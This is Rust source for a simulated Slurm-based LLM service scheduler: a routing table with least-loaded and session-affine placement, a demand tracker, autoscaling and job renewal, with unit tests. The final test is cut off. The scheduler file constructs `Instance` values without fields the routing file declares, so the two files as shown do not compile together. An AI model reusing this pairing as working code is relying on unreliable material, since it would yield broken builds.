#[derive(Debug, Clone)]
pub struct Instance {
    pub job_id: JobId,
    pub service: String,
    pub node: String,
    pub port: u16,
    /// Reachable address. The simulation flattens the cluster network onto
    /// loopback: every node's instances bind 127.0.0.1:<port> (ports are
    /// cluster-unique, see `alloc_port`).
    pub addr: String,
    /// Set once the readiness probe has seen a healthy /health.
    pub ready: bool,
    /// Graceful-drain flag: a draining instance keeps serving its in-flight
    /// requests but receives no new placements (`pick`/`pick_least_loaded`
    /// skip it). Set by the scheduler near walltime, on scale-down, and on
    /// a preemption notice; cleared only by removal.
    pub draining: bool,
    /// Scavenger-tier replica: a low-priority, short-walltime, preemptible
    /// job squeezed into a schedule gap (vs the guaranteed tier).
    pub scavenger: bool,
    pub started_us: u64,
}

/// The shared routing table (scheduler writes, cloud interface reads).
#[derive(Clone, Default)]
pub struct RoutingTable {
    inner: Arc<Mutex<BTreeMap<String, Vec<Instance>>>>,
    /// In-flight requests per instance, for least-loaded placement.
    loads: Arc<Mutex<BTreeMap<JobId, Arc<AtomicI64>>>>,
}

/// RAII guard: one request in flight against one instance.
pub struct InstanceGuard {
    counter: Arc<AtomicI64>,
}

impl Drop for InstanceGuard {
    fn drop(&mut self) {
        self.counter.fetch_sub(1, Ordering::SeqCst);
    }
}

impl RoutingTable {
    pub fn new() -> RoutingTable {
        RoutingTable::default()
    }

    pub fn upsert(&self, inst: Instance) {
        let mut t = self.inner.lock().unwrap();
        let v = t.entry(inst.service.clone()).or_default();
        match v.iter_mut().find(|i| i.job_id == inst.job_id) {
            Some(slot) => *slot = inst,
            None => v.push(inst),
        }
    }

    pub fn remove(&self, job_id: JobId) {
        let mut t = self.inner.lock().unwrap();
        for v in t.values_mut() {
            v.retain(|i| i.job_id != job_id);
        }
        drop(t);
        // Forget its load counter; live guards keep their own Arc.
        self.loads.lock().unwrap().remove(&job_id);
    }

    pub fn mark_ready(&self, job_id: JobId) {
        let mut t = self.inner.lock().unwrap();
        for v in t.values_mut() {
            for i in v.iter_mut() {
                if i.job_id == job_id {
                    i.ready = true;
                }
            }
        }
    }

    /// Flip an instance into graceful drain: it finishes what it has but
    /// gets nothing new. Idempotent.
    pub fn mark_draining(&self, job_id: JobId) {
        let mut t = self.inner.lock().unwrap();
        for v in t.values_mut() {
            for i in v.iter_mut() {
                if i.job_id == job_id {
                    i.draining = true;
                }
            }
        }
    }

    /// All instances of a service (ready or not).
    pub fn instances(&self, service: &str) -> Vec<Instance> {
        self.inner.lock().unwrap().get(service).cloned().unwrap_or_default()
    }

    pub fn ready_instances(&self, service: &str) -> Vec<Instance> {
        self.instances(service).into_iter().filter(|i| i.ready).collect()
    }

    /// Instances new requests may be placed on: ready and not draining.
    pub fn routable_instances(&self, service: &str) -> Vec<Instance> {
        self.instances(service).into_iter().filter(|i| i.ready && !i.draining).collect()
    }

    pub fn services(&self) -> Vec<String> {
        self.inner.lock().unwrap().keys().cloned().collect()
    }

    /// Random load balancing over routable instances (§5.6).
    pub fn pick(&self, service: &str, rng: &mut Rng) -> Option<Instance> {
        let ready = self.routable_instances(service);
        rng.choose(&ready).cloned()
    }

    /// Begin a request against an instance; dropping the guard ends it.
    pub fn begin_request(&self, job_id: JobId) -> InstanceGuard {
        let counter = self.loads.lock().unwrap().entry(job_id).or_default().clone();
        counter.fetch_add(1, Ordering::SeqCst);
        InstanceGuard { counter }
    }

    /// Current in-flight requests against an instance.
    pub fn instance_load(&self, job_id: JobId) -> i64 {
        self.loads
            .lock()
            .unwrap()
            .get(&job_id)
            .map(|c| c.load(Ordering::SeqCst))
            .unwrap_or(0)
    }

    /// Least-loaded placement over routable instances; the paper's random
    /// balancing survives as the tie-break among equally loaded ones.
    pub fn pick_least_loaded(&self, service: &str, rng: &mut Rng) -> Option<Instance> {
        let ready = self.routable_instances(service);
        if ready.is_empty() {
            return None;
        }
        let loads = self.loads.lock().unwrap();
        let load_of = |i: &Instance| {
            loads.get(&i.job_id).map(|c| c.load(Ordering::SeqCst)).unwrap_or(0)
        };
        let min = ready.iter().map(|i| load_of(i)).min().unwrap_or(0);
        let min_set: Vec<Instance> =
            ready.iter().filter(|&i| load_of(i) == min).cloned().collect();
        rng.choose(&min_set).cloned()
    }

    /// Session-affine placement (DESIGN.md §Multi-model fleet): a returning
    /// conversation lands on the replica whose prefix cache still holds its
    /// history. The affine target is chosen by rendezvous (highest-random-
    /// weight) hashing of the session key over the routable set, so replicas
    /// joining or dying re-home only the sessions that mapped to them —
    /// unlike modulo hashing, which reshuffles everything. Load-aware spill:
    /// when the target is running more than `spill_margin` requests above
    /// the least-loaded replica, the request spills to least-loaded instead
    /// (a hot conversation must not pile onto an already-drowning replica).
    /// Returns the instance plus whether the affine target was used — the
    /// caller counts hits as `sched_affinity_hits_total`.
    pub fn pick_affine(
        &self,
        service: &str,
        session: &str,
        spill_margin: i64,
        rng: &mut Rng,
    ) -> Option<(Instance, bool)> {
        let ready = self.routable_instances(service);
        if ready.is_empty() {
            return None;
        }
        let target = ready
            .iter()
            .max_by_key(|i| (rendezvous_weight(session, i.job_id), i.job_id))
            .cloned()?;
        let over_spill = {
            let loads = self.loads.lock().unwrap();
            let load_of = |i: &Instance| {
                loads.get(&i.job_id).map(|c| c.load(Ordering::SeqCst)).unwrap_or(0)
            };
            let min = ready.iter().map(load_of).min().unwrap_or(0);
            load_of(&target) > min + spill_margin
        };
        if over_spill {
            self.pick_least_loaded(service, rng).map(|i| (i, false))
        } else {
            Some((target, true))
        }
    }

    /// Is a port already reserved anywhere in the table?
    pub fn port_in_use(&self, port: u16) -> bool {
        self.inner
            .lock()
            .unwrap()
            .values()
            .flatten()
            .any(|i| i.port == port)
    }

    /// Pick a random unused port for a new service job. Slurm provides no
    /// network virtualization, so two jobs must never share a port (§5.6).
    pub fn alloc_port(&self, rng: &mut Rng) -> u16 {
        loop {
            let port = rng.range(20_000, 40_000) as u16;
            if !self.port_in_use(port) {
                return port;
            }
        }
    }
}

/// FNV-1a over the session key, folded with the candidate's job id — the
/// per-(session, replica) score rendezvous hashing maximizes. Pure and
/// seedless: the same session over the same replica set always scores the
/// same, which is what makes affinity replayable under virtual time.
fn rendezvous_weight(session: &str, job: JobId) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in session.as_bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    h ^= job;
    h.wrapping_mul(0x0100_0000_01b3)
}

/// Sliding-window concurrency tracking per service.
#[derive(Clone, Default)]
pub struct DemandTracker {
    inner: Arc<Mutex<BTreeMap<String, ServiceDemand>>>,
}

#[derive(Default)]
struct ServiceDemand {
    inflight: Arc<AtomicI64>,
    /// (sample_time_us, concurrent) samples taken on scheduling runs.
    samples: Vec<(u64, i64)>,
}

/// RAII guard decrementing the in-flight counter.
pub struct InflightGuard {
    counter: Arc<AtomicI64>,
}

impl Drop for InflightGuard {
    fn drop(&mut self) {
        self.counter.fetch_sub(1, Ordering::SeqCst);
    }
}

impl DemandTracker {
    pub fn new() -> DemandTracker {
        DemandTracker::default()
    }

    /// Record a request starting; the guard ends it.
    pub fn begin(&self, service: &str) -> InflightGuard {
        let counter = {
            let mut t = self.inner.lock().unwrap();
            t.entry(service.to_string()).or_default().inflight.clone()
        };
        counter.fetch_add(1, Ordering::SeqCst);
        InflightGuard { counter }
    }

    pub fn inflight(&self, service: &str) -> i64 {
        self.inner
            .lock()
            .unwrap()
            .get(service)
            .map(|d| d.inflight.load(Ordering::SeqCst))
            .unwrap_or(0)
    }

    /// Take a sample (called on each scheduling run) and drop samples older
    /// than `window_us`.
    pub fn sample(&self, service: &str, now_us: u64, window_us: u64) {
        let mut t = self.inner.lock().unwrap();
        let d = t.entry(service.to_string()).or_default();
        let c = d.inflight.load(Ordering::SeqCst);
        d.samples.push((now_us, c));
        d.samples.retain(|&(ts, _)| ts + window_us >= now_us);
    }

    /// Average concurrency over the retained window.
    pub fn average(&self, service: &str) -> f64 {
        let t = self.inner.lock().unwrap();
        match t.get(service) {
            Some(d) if !d.samples.is_empty() => {
                d.samples.iter().map(|&(_, c)| c as f64).sum::<f64>() / d.samples.len() as f64
            }
            _ => 0.0,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prop_assert;
    use crate::util::prop::run_prop;

    fn inst(job: JobId, service: &str, port: u16, ready: bool) -> Instance {
        Instance {
            job_id: job,
            service: service.into(),
            node: "ggpu01".into(),
            port,
            addr: format!("127.0.0.1:{port}"),
            ready,
            draining: false,
            scavenger: false,
            started_us: 0,
        }
    }

    #[test]
    fn upsert_and_ready_transitions() {
        let t = RoutingTable::new();
        t.upsert(inst(1, "m", 20001, false));
        assert_eq!(t.instances("m").len(), 1);
        assert!(t.ready_instances("m").is_empty());
        t.mark_ready(1);
        assert_eq!(t.ready_instances("m").len(), 1);
        t.remove(1);
        assert!(t.instances("m").is_empty());
    }

    #[test]
    fn pick_is_random_over_ready_only() {
        let t = RoutingTable::new();
        t.upsert(inst(1, "m", 20001, true));
        t.upsert(inst(2, "m", 20002, true));
        t.upsert(inst(3, "m", 20003, false));
        let mut rng = Rng::new(1);
        let mut hits = BTreeMap::new();
        for _ in 0..300 {
            let picked = t.pick("m", &mut rng).unwrap();
            *hits.entry(picked.job_id).or_insert(0u32) += 1;
            assert_ne!(picked.job_id, 3, "never route to a non-ready instance");
        }
        assert!(hits[&1] > 90 && hits[&2] > 90, "roughly balanced: {hits:?}");
        assert!(t.pick("missing", &mut rng).is_none());
    }

    #[test]
    fn least_loaded_pick_follows_inflight_counts() {
        let t = RoutingTable::new();
        t.upsert(inst(1, "m", 20001, true));
        t.upsert(inst(2, "m", 20002, true));
        let mut rng = Rng::new(3);

        // One request on instance 1 -> instance 2 always wins.
        let g1 = t.begin_request(1);
        assert_eq!(t.instance_load(1), 1);
        for _ in 0..30 {
            assert_eq!(t.pick_least_loaded("m", &mut rng).unwrap().job_id, 2);
        }
        // Two on instance 2 -> instance 1 wins despite its one in-flight.
        let g2a = t.begin_request(2);
        let g2b = t.begin_request(2);
        for _ in 0..30 {
            assert_eq!(t.pick_least_loaded("m", &mut rng).unwrap().job_id, 1);
        }
        // Guards drain; ties split randomly (the §5.6 behaviour).
        drop(g1);
        drop(g2a);
        drop(g2b);
        assert_eq!(t.instance_load(1), 0);
        assert_eq!(t.instance_load(2), 0);
        let mut hits = BTreeMap::new();
        for _ in 0..300 {
            *hits.entry(t.pick_least_loaded("m", &mut rng).unwrap().job_id).or_insert(0u32) += 1;
        }
        assert!(hits[&1] > 90 && hits[&2] > 90, "tie-break balanced: {hits:?}");
        // Removing an instance forgets its counter.
        let _g = t.begin_request(2);
        t.remove(2);
        assert_eq!(t.instance_load(2), 0);
    }

    #[test]
    fn draining_instances_receive_no_new_placements() {
        let t = RoutingTable::new();
        t.upsert(inst(1, "m", 20001, true));
        t.upsert(inst(2, "m", 20002, true));
        let mut rng = Rng::new(9);
        t.mark_draining(1);
        // Still listed (it finishes its in-flight work)…
        assert_eq!(t.instances("m").len(), 2);
        assert_eq!(t.ready_instances("m").len(), 2);
        // …but never picked, by either policy.
        assert_eq!(t.routable_instances("m").len(), 1);
        for _ in 0..50 {
            assert_eq!(t.pick("m", &mut rng).unwrap().job_id, 2);
            assert_eq!(t.pick_least_loaded("m", &mut rng).unwrap().job_id, 2);
        }
        // Draining beats load: instance 2 is busier yet still wins.
        let _g = t.begin_request(2);
        assert_eq!(t.pick_least_loaded("m", &mut rng).unwrap().job_id, 2);
        // Idempotent; draining everything leaves nothing routable.
        t.mark_draining(1);
        t.mark_draining(2);
        assert!(t.pick("m", &mut rng).is_none());
        assert!(t.pick_least_loaded("m", &mut rng).is_none());
        // Removal forgets the drained instance entirely.
        t.remove(1);
        assert_eq!(t.instances("m").len(), 1);
    }

    #[test]
    fn affine_pick_is_sticky_per_session() {
        let t = RoutingTable::new();
        for j in 1..=4 {
            t.upsert(inst(j, "m", 20000 + j as u16, true));
        }
        let mut rng = Rng::new(11);
        // Same conversation ⇒ same replica, every time, across many picks.
        for session in ["conv-a", "conv-b", "conv-c", "conv-d", "conv-e"] {
            let (first, hit) = t.pick_affine("m", session, 0, &mut rng).unwrap();
            assert!(hit, "unloaded table must serve the affine target");
            for _ in 0..20 {
                let (again, hit) = t.pick_affine("m", session, 0, &mut rng).unwrap();
                assert_eq!(again.job_id, first.job_id, "session {session} bounced");
                assert!(hit);
            }
        }
        // Sessions spread over the fleet rather than piling on one replica.
        let mut homes = BTreeMap::new();
        for s in 0..64 {
            let (i, _) = t.pick_affine("m", &format!("conv-{s}"), 0, &mut rng).unwrap();
            *homes.entry(i.job_id).or_insert(0u32) += 1;
        }
        assert!(homes.len() >= 3, "rendezvous hash collapsed the fleet: {homes:?}");
        assert!(t.pick_affine("missing", "conv-a", 0, &mut rng).is_none());
    }

    #[test]
    fn affine_session_rehomes_cleanly_on_replica_death() {
        let t = RoutingTable::new();
        for j in 1..=3 {
            t.upsert(inst(j, "m", 20000 + j as u16, true));
        }
        let mut rng = Rng::new(13);
        // Record every session's home, kill one replica, and require that
        // only the dead replica's sessions move (minimal-disruption
        // property of rendezvous hashing) — and that they move to a live
        // replica deterministically.
        let sessions: Vec<String> = (0..48).map(|s| format!("conv-{s}")).collect();
        let before: BTreeMap<&str, JobId> = sessions
            .iter()
            .map(|s| (s.as_str(), t.pick_affine("m", s, 0, &mut rng).unwrap().0.job_id))
            .collect();
        let victim = before["conv-0"];
        t.remove(victim);
        for s in &sessions {
            let (new_home, hit) = t.pick_affine("m", s, 0, &mut rng).unwrap();
            assert!(hit);
            assert_ne!(new_home.job_id, victim, "routed to a dead replica");
            if before[s.as_str()] != victim {
                assert_eq!(new_home.job_id, before[s.as_str()], "unaffected session {s} moved");
            }
        }
        // Draining a replica re-homes its sessions just like death does.
        let survivors: Vec<JobId> =
            t.routable_instances("m").iter().map(|i| i.job_id).collect();
        t.mark_draining(survivors[0]);
        for s in &sessions {
            let (home, _) = t.pick_affine("m", s, 0, &mut rng).unwrap();
            assert_ne!(home.job_id, survivors[0], "routed to a draining replica");
        }
    }

    #[test]
    fn affine_pick_spills_to_least_loaded_when_target_is_hot() {
        let t = RoutingTable::new();
        t.upsert(inst(1, "m", 20001, true));
        t.upsert(inst(2, "m", 20002, true));
        let mut rng = Rng::new(17);
        let (target, hit) = t.pick_affine("m", "conv-x", 1, &mut rng).unwrap();
        assert!(hit);
        let other = if target.job_id == 1 { 2 } else { 1 };
        // Load the affine target past the spill margin: the session spills
        // to the least-loaded replica and the pick reports a miss.
        let _g1 = t.begin_request(target.job_id);
        let _g2 = t.begin_request(target.job_id);
        let (picked, hit) = t.pick_affine("m", "conv-x", 1, &mut rng).unwrap();
        assert!(!hit, "overloaded target must not count as an affinity hit");
        assert_eq!(picked.job_id, other);
        // Within the margin the target keeps its sessions (cache beats a
        // one-request imbalance).
        let _g3 = t.begin_request(other);
        let _g4 = t.begin_request(other);
        let (picked, hit) = t.pick_affine("m", "conv-x", 1, &mut rng).unwrap();
        assert!(hit);
        assert_eq!(picked.job_id, target.job_id);
    }

    #[test]
    fn port_allocation_avoids_collisions() {
        let t = RoutingTable::new();
        let mut rng = Rng::new(2);
        let mut used = std::collections::BTreeSet::new();
        for j in 0..200 {
            let p = t.alloc_port(&mut rng);
            assert!(used.insert(p), "port {p} reused");
            t.upsert(inst(j, "m", p, false));
        }
    }

    #[test]
    fn demand_window_average() {
        let d = DemandTracker::new();
        let g1 = d.begin("m");
        let g2 = d.begin("m");
        assert_eq!(d.inflight("m"), 2);
        d.sample("m", 1_000_000, 60_000_000);
        drop(g1);
        d.sample("m", 2_000_000, 60_000_000);
        assert_eq!(d.inflight("m"), 1);
        assert!((d.average("m") - 1.5).abs() < 1e-9);
        drop(g2);
        // Old samples age out of the window.
        d.sample("m", 120_000_000, 60_000_000);
        assert!((d.average("m") - 0.0).abs() < 1e-9);
    }

    #[test]
    fn prop_inflight_never_negative_and_returns_to_zero() {
        run_prop("demand_balance", 7, 30, |rng| {
            let d = DemandTracker::new();
            let mut guards = Vec::new();
            for _ in 0..100 {
                if rng.chance(0.6) {
                    guards.push(d.begin("svc"));
                } else if !guards.is_empty() {
                    let i = rng.below(guards.len() as u64) as usize;
                    guards.swap_remove(i);
                }
                prop_assert!(d.inflight("svc") >= 0, "negative inflight");
                prop_assert!(
                    d.inflight("svc") == guards.len() as i64,
                    "counter drift: {} vs {}",
                    d.inflight("svc"),
                    guards.len()
                );
            }
            guards.clear();
            prop_assert!(d.inflight("svc") == 0, "did not return to zero");
            Ok(())
        });
    }
}
