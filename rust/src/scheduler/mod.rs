//! The Slurm-native service scheduler — the paper's core contribution (§5.6).
//!
//! A "scheduler script" runs on the HPC service node, triggered by every
//! keepalive ping arriving over the SSH connection (every 5 s). Each run:
//!
//! 1. takes the lock (only one scheduler instance at a time — the paper
//!    uses a lock file);
//! 2. reconciles Slurm state: consumes job events, launches/terminates
//!    instance processes, updates the routing table;
//! 3. per service: samples demand, computes the desired instance count from
//!    the windowed average concurrency, submits missing jobs (`sbatch`)
//!    with scheduler-allocated random ports, cancels/expires excess ones,
//!    renews jobs approaching their walltime (the "continuously replaced or
//!    extended" requirement of §4), and probes not-yet-ready instances.
//!
//! Everything is driven by explicit clock reads so the same code runs under
//! simulated months and live wall time.

pub mod instances;
pub mod routing;

pub use instances::{BackendKind, InstanceLauncher, MockLauncher, RealLauncher};
pub use routing::{DemandTracker, Instance, InstanceGuard, RoutingTable};

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::slurm::{JobId, JobInfo, JobSpec, JobState, JobUpdate, SlurmSim};
use crate::util::clock::Clock;
use crate::util::metrics::Registry;
use crate::util::rng::Rng;

/// Declarative description of one service the scheduler maintains.
#[derive(Debug, Clone)]
pub struct ServiceSpec {
    /// Service/model name (also the route name at the gateway).
    pub name: String,
    pub min_instances: u32,
    pub max_instances: u32,
    /// Autoscaling target: desired = ceil(avg_concurrency / this).
    pub target_concurrency: f64,
    /// Resources one instance requests from Slurm.
    pub gpus: u32,
    pub cpus: u32,
    pub mem_gb: u32,
    /// Service-job walltime; jobs are renewed `renew_margin` before expiry.
    pub walltime: Duration,
    pub backend: BackendKind,
}

impl ServiceSpec {
    /// A simulated production model with paper-like resources.
    pub fn sim(name: &str, time_scale: f64) -> ServiceSpec {
        let profile = crate::llmserver::SimProfile::by_name(name)
            .unwrap_or_else(|| panic!("unknown sim profile {name}"));
        ServiceSpec {
            name: name.to_string(),
            min_instances: 1,
            max_instances: 4,
            target_concurrency: 4.0,
            gpus: profile.gpus,
            cpus: 8,
            mem_gb: 64,
            walltime: Duration::from_secs(12 * 3600),
            backend: BackendKind::Sim { profile: name.to_string(), time_scale },
        }
    }

    /// The real PJRT-served tiny model.
    pub fn pjrt_tiny() -> ServiceSpec {
        ServiceSpec {
            name: "tiny".into(),
            min_instances: 1,
            max_instances: 2,
            target_concurrency: 4.0,
            gpus: 1,
            cpus: 4,
            mem_gb: 16,
            walltime: Duration::from_secs(12 * 3600),
            backend: BackendKind::Pjrt { model: "tiny".into() },
        }
    }
}

/// Scheduler tuning.
#[derive(Debug, Clone)]
pub struct SchedulerConfig {
    /// Demand averaging window (§5.6 "predefined time window").
    pub demand_window: Duration,
    /// Renew service jobs when less than this walltime remains.
    pub renew_margin: Duration,
    /// Service jobs run at elevated priority so they outrank batch (§7.1.3).
    pub job_priority: i64,
    /// Functional account jobs are submitted under (§4 Monitoring).
    pub account: String,
}

impl Default for SchedulerConfig {
    fn default() -> SchedulerConfig {
        SchedulerConfig {
            demand_window: Duration::from_secs(60),
            renew_margin: Duration::from_secs(300),
            job_priority: 100,
            account: "svc-chat-ai".into(),
        }
    }
}

/// Outcome of one scheduler run (observability + tests).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RunReport {
    pub skipped_locked: bool,
    pub submitted: Vec<JobId>,
    pub cancelled: Vec<JobId>,
    pub renewed: Vec<JobId>,
    pub became_ready: Vec<JobId>,
}

/// The scheduler itself.
pub struct ServiceScheduler {
    slurm: Arc<Mutex<SlurmSim>>,
    clock: Arc<dyn Clock>,
    pub routing: RoutingTable,
    pub demand: DemandTracker,
    launcher: Arc<dyn InstanceLauncher>,
    services: Mutex<Vec<ServiceSpec>>,
    rng: Mutex<Rng>,
    lock: AtomicBool,
    cfg: SchedulerConfig,
    metrics: Registry,
}

impl ServiceScheduler {
    pub fn new(
        slurm: Arc<Mutex<SlurmSim>>,
        clock: Arc<dyn Clock>,
        launcher: Arc<dyn InstanceLauncher>,
        services: Vec<ServiceSpec>,
        cfg: SchedulerConfig,
        metrics: Registry,
    ) -> ServiceScheduler {
        // Unique port-allocation seed per scheduler instance: co-hosted
        // stacks (tests, multi-platform deployments on one box) must not
        // race for the same ports.
        static SEED: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0x5c_ed);
        let seed = SEED.fetch_add(0x9E37_79B9, Ordering::Relaxed);
        ServiceScheduler {
            slurm,
            clock,
            routing: RoutingTable::new(),
            demand: DemandTracker::new(),
            launcher,
            services: Mutex::new(services),
            rng: Mutex::new(Rng::new(seed)),
            lock: AtomicBool::new(false),
            cfg,
            metrics,
        }
    }

    pub fn services(&self) -> Vec<ServiceSpec> {
        self.services.lock().unwrap().clone()
    }

    /// Add or replace a service at runtime (the paper's §7.1.2 automation
    /// gap — here it is one call).
    pub fn upsert_service(&self, spec: ServiceSpec) {
        let mut s = self.services.lock().unwrap();
        match s.iter_mut().find(|x| x.name == spec.name) {
            Some(slot) => *slot = spec,
            None => s.push(spec),
        }
    }

    fn job_name(service: &str) -> String {
        format!("svc-{service}")
    }

    fn parse_comment(comment: &str) -> Option<(String, u16)> {
        let mut service = None;
        let mut port = None;
        for kv in comment.split(';') {
            match kv.split_once('=') {
                Some(("service", v)) => service = Some(v.to_string()),
                Some(("port", v)) => port = v.parse().ok(),
                _ => {}
            }
        }
        Some((service?, port?))
    }

    /// One scheduler-script execution (triggered per keepalive ping).
    pub fn run_once(&self) -> RunReport {
        // The lock file: only one scheduler instance at a time (§5.6).
        if self.lock.swap(true, Ordering::SeqCst) {
            return RunReport { skipped_locked: true, ..Default::default() };
        }
        let report = self.run_locked();
        self.lock.store(false, Ordering::SeqCst);
        report
    }

    fn run_locked(&self) -> RunReport {
        let mut report = RunReport::default();
        let now = self.clock.now_us();
        let services = self.services();

        // --- reconcile Slurm events -------------------------------------
        let events = {
            let mut slurm = self.slurm.lock().unwrap();
            slurm.tick(now);
            slurm.drain_events()
        };
        for ev in events {
            match ev {
                JobUpdate::Started { id, nodes } => {
                    let Some(info) = self.slurm.lock().unwrap().job(id) else { continue };
                    let Some((service, port)) = Self::parse_comment(&info.comment) else {
                        continue; // not a service job
                    };
                    let Some(spec) = services.iter().find(|s| s.name == service) else {
                        continue;
                    };
                    let node = nodes.first().cloned().unwrap_or_default();
                    self.launcher.launch(id, spec, &node, port);
                    self.routing.upsert(Instance {
                        job_id: id,
                        service: service.clone(),
                        node,
                        port,
                        addr: format!("127.0.0.1:{port}"),
                        ready: false,
                        started_us: now,
                    });
                }
                JobUpdate::Finished { id, .. } => {
                    self.routing.remove(id);
                    self.launcher.terminate(id);
                }
            }
        }

        // --- per-service reconciliation ----------------------------------
        let window_us = self.cfg.demand_window.as_micros() as u64;
        for spec in &services {
            self.demand.sample(&spec.name, now, window_us);
            let avg = self.demand.average(&spec.name);
            let desired = ((avg / spec.target_concurrency).ceil() as u32)
                .clamp(spec.min_instances, spec.max_instances);
            self.metrics
                .gauge("sched_desired_instances", &[("service", &spec.name)])
                .set(desired as i64);

            let jobs = self.service_jobs(&spec.name);
            let active: Vec<&JobInfo> =
                jobs.iter().filter(|j| !j.state.is_terminal()).collect();

            // Jobs close to their walltime are "draining": they will expire
            // and cannot be extended (batch semantics, §4), so they no
            // longer count toward the desired pool. That makes renewal fall
            // out of ordinary scale-up, and keeps scale-down from
            // cannibalising the freshly-submitted replacements.
            let renew_us = self.cfg.renew_margin.as_micros() as u64;
            let walltime_us = spec.walltime.as_micros() as u64;
            let is_draining = |j: &&JobInfo| {
                j.state == JobState::Running
                    && (j.start_us.unwrap_or(now) + walltime_us).saturating_sub(now) < renew_us
            };
            let draining = active.iter().filter(|j| is_draining(j)).count() as u32;
            let countable: Vec<&&JobInfo> =
                active.iter().filter(|j| !is_draining(j)).collect();

            // Scale up (covers walltime renewal: a draining job stops
            // counting, so its replacement is submitted here).
            if (countable.len() as u32) < desired {
                for _ in 0..(desired - countable.len() as u32) {
                    let id = self.submit_job(spec, now);
                    if draining > 0 {
                        report.renewed.push(id);
                    } else {
                        report.submitted.push(id);
                    }
                }
            }

            // Scale down: prefer cancelling pending (never-started) jobs,
            // then the youngest running ones (§5.6 lets excess expire; we
            // also support active cancellation to free GPUs promptly).
            if (countable.len() as u32) > desired {
                let mut excess = countable.len() as u32 - desired;
                let mut victims: Vec<JobId> = countable
                    .iter()
                    .filter(|j| j.state == JobState::Pending)
                    .map(|j| j.id)
                    .collect();
                let mut running: Vec<&&&JobInfo> =
                    countable.iter().filter(|j| j.state == JobState::Running).collect();
                running.sort_by_key(|j| std::cmp::Reverse(j.start_us.unwrap_or(0)));
                victims.extend(running.iter().map(|j| j.id));
                for id in victims.into_iter().take(excess as usize) {
                    self.slurm.lock().unwrap().scancel(id, now);
                    self.routing.remove(id);
                    self.launcher.terminate(id);
                    report.cancelled.push(id);
                    excess -= 1;
                    if excess == 0 {
                        break;
                    }
                }
            }

            // Readiness probing.
            for inst in self.routing.instances(&spec.name) {
                if !inst.ready && self.launcher.probe(&inst.addr) {
                    self.routing.mark_ready(inst.job_id);
                    report.became_ready.push(inst.job_id);
                }
            }
            self.metrics
                .gauge("sched_ready_instances", &[("service", &spec.name)])
                .set(self.routing.ready_instances(&spec.name).len() as i64);
        }
        report
    }

    fn service_jobs(&self, service: &str) -> Vec<JobInfo> {
        let name = Self::job_name(service);
        self.slurm
            .lock()
            .unwrap()
            .squeue()
            .into_iter()
            .filter(|j| j.name == name)
            .collect()
    }

    fn submit_job(&self, spec: &ServiceSpec, now: u64) -> JobId {
        let port = self.routing.alloc_port(&mut self.rng.lock().unwrap());
        let job = JobSpec {
            name: Self::job_name(&spec.name),
            account: self.cfg.account.clone(),
            nodes: 1,
            gpus_per_node: spec.gpus,
            cpus_per_node: spec.cpus,
            mem_gb_per_node: spec.mem_gb,
            time_limit: spec.walltime,
            priority: self.cfg.job_priority,
            duration: None,
            comment: format!("service={};port={port}", spec.name),
        };
        let id = self.slurm.lock().unwrap().sbatch(job, now);
        // Reserve the port in the routing table immediately (pending, not
        // ready) so concurrent allocations can't collide.
        self.routing.upsert(Instance {
            job_id: id,
            service: spec.name.clone(),
            node: String::new(),
            port,
            addr: format!("127.0.0.1:{port}"),
            ready: false,
            started_us: now,
        });
        self.metrics.counter("sched_jobs_submitted_total", &[("service", &spec.name)]).inc();
        id
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::slurm::ClusterSpec;
    use crate::util::clock::SimClock;

    fn setup(
        services: Vec<ServiceSpec>,
    ) -> (ServiceScheduler, Arc<SimClock>, Arc<MockLauncher>, Arc<Mutex<SlurmSim>>) {
        let slurm = Arc::new(Mutex::new(SlurmSim::new(ClusterSpec::kisski())));
        let clock = SimClock::new();
        let launcher = MockLauncher::new();
        let sched = ServiceScheduler::new(
            slurm.clone(),
            clock.clone(),
            launcher.clone(),
            services,
            SchedulerConfig::default(),
            Registry::new(),
        );
        (sched, clock, launcher, slurm)
    }

    fn svc(name: &str, min: u32, max: u32) -> ServiceSpec {
        ServiceSpec {
            name: name.into(),
            min_instances: min,
            max_instances: max,
            target_concurrency: 4.0,
            gpus: 2,
            cpus: 8,
            mem_gb: 64,
            walltime: Duration::from_secs(3600),
            backend: BackendKind::Sim { profile: "intel-neural-7b".into(), time_scale: 0.0 },
        }
    }

    /// Advance 5 s and run (one keepalive cycle).
    fn cycle(sched: &ServiceScheduler, clock: &SimClock) -> RunReport {
        clock.advance(Duration::from_secs(5));
        sched.run_once()
    }

    #[test]
    fn maintains_min_instances_and_marks_ready() {
        let (sched, clock, launcher, _slurm) = setup(vec![svc("m", 2, 4)]);
        let r1 = sched.run_once();
        assert_eq!(r1.submitted.len(), 2);
        // Next cycle: jobs started, instances launched, not ready yet.
        let _ = cycle(&sched, &clock);
        assert_eq!(launcher.launched.lock().unwrap().len(), 2);
        assert_eq!(sched.routing.ready_instances("m").len(), 0);
        // Model finishes loading -> probes succeed -> ready.
        launcher.all_healthy();
        let r3 = cycle(&sched, &clock);
        assert_eq!(r3.became_ready.len(), 2);
        assert_eq!(sched.routing.ready_instances("m").len(), 2);
        // Steady state: nothing more to do.
        let r4 = cycle(&sched, &clock);
        assert!(r4.submitted.is_empty() && r4.cancelled.is_empty());
    }

    #[test]
    fn ports_are_unique_across_jobs() {
        let (sched, clock, _l, _s) = setup(vec![svc("a", 3, 3), svc("b", 3, 3)]);
        sched.run_once();
        cycle(&sched, &clock);
        let mut ports: Vec<u16> = sched
            .routing
            .instances("a")
            .into_iter()
            .chain(sched.routing.instances("b"))
            .map(|i| i.port)
            .collect();
        assert_eq!(ports.len(), 6);
        ports.sort();
        ports.dedup();
        assert_eq!(ports.len(), 6, "port collision");
    }

    #[test]
    fn scales_up_under_demand_and_down_when_idle() {
        let (sched, clock, launcher, _s) = setup(vec![svc("m", 1, 4)]);
        sched.run_once();
        launcher.all_healthy();
        cycle(&sched, &clock);
        assert_eq!(sched.routing.instances("m").len(), 1);

        // Sustained demand: 10 concurrent requests, target 4/instance -> 3.
        let guards: Vec<_> = (0..10).map(|_| sched.demand.begin("m")).collect();
        for _ in 0..13 {
            cycle(&sched, &clock);
        }
